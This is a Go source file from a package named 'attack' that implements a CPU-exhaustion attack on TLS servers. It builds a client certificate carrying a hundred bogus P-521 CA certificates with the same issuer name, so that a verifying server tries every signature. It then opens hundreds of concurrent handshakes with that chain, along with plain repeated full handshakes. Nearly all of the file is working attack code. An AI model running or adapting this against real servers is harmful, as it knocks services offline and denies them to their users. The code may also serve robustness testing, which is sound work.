package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"math/big"
	"time"
)

// chainLength is the number of signatures that Go's verification tries at most.
const chainLength = 100

// How many handshakes are under way at a time, of all addresses together.
const (
	handshaking    = 64
	chainsUnderWay = 400
)

const bogusLifetime = 24 * time.Hour

// chains does handshakes with a certificate that each of a hundred bogus CAs could have
// signed. A server that tries them all spends about 200 ms on one handshake.
func chains(ctx context.Context, c *crew, ready func()) error {
	chain, err := bogusChain()
	if err != nil {
		return err
	}
	config := c.config.Clone()
	config.ClientSessionCache = nil
	config.Certificates = []tls.Certificate{chain}
	return c.repeat(ctx, chainsUnderWay, config, true, ready)
}

// handshakes does full handshakes without a request.
func handshakes(ctx context.Context, c *crew, ready func()) error {
	config := c.config.Clone()
	config.ClientSessionCache = nil
	return c.repeat(ctx, handshaking, config, false, ready)
}

// repeat opens connections, so many at a time, and closes each after its handshake. With
// verdict it waits for what the server says about the certificate.
func (c *crew) repeat(ctx context.Context, n int, config *tls.Config, verdict bool, ready func()) error {
	return together(ctx, n, func(i int) {
		for ctx.Err() == nil {
			k, err := c.dial(ctx, i, dialOptions{config: config})
			if err != nil {
				wait(ctx, refusedPause)
				continue
			}
			if verdict {
				stop := context.AfterFunc(ctx, func() { _ = k.raw.Close() })
				_ = k.SetReadDeadline(time.Now().Add(dialTimeout))
				_, _ = k.Read(make([]byte, 1))
				stop()
			}
			k.leave(verdict)
		}
	}, ready)
}

// bogusChain returns a certificate whose issuer has the name of each of the CAs that follow
// it, and was signed by none of them. P-521 is the curve whose signatures take longest to
// verify.
func bogusChain() (tls.Certificate, error) {
	name := pkix.Name{CommonName: "bogus CA"}
	template := func(serial int64, subject pkix.Name) *x509.Certificate {
		return &x509.Certificate{
			SerialNumber: big.NewInt(serial), Subject: subject, NotBefore: time.Now().Add(-bogusLifetime), NotAfter: time.Now().Add(bogusLifetime),
		}
	}
	signer, err := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	own, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	leaf := template(1, pkix.Name{CommonName: "root"})
	leaf.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}
	der, err := x509.CreateCertificate(rand.Reader, leaf, template(2, name), own.Public(), signer)
	if err != nil {
		return tls.Certificate{}, err
	}
	chain := tls.Certificate{Certificate: [][]byte{der}, PrivateKey: own}
	for i := range int64(chainLength) {
		key, err := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
		if err != nil {
			return tls.Certificate{}, err
		}
		ca := template(3+i, name)
		ca.IsCA, ca.BasicConstraintsValid = true, true
		if der, err = x509.CreateCertificate(rand.Reader, ca, ca, key.Public(), key); err != nil {
			return tls.Certificate{}, err
		}
		chain.Certificate = append(chain.Certificate, der)
	}
	return chain, nil
}
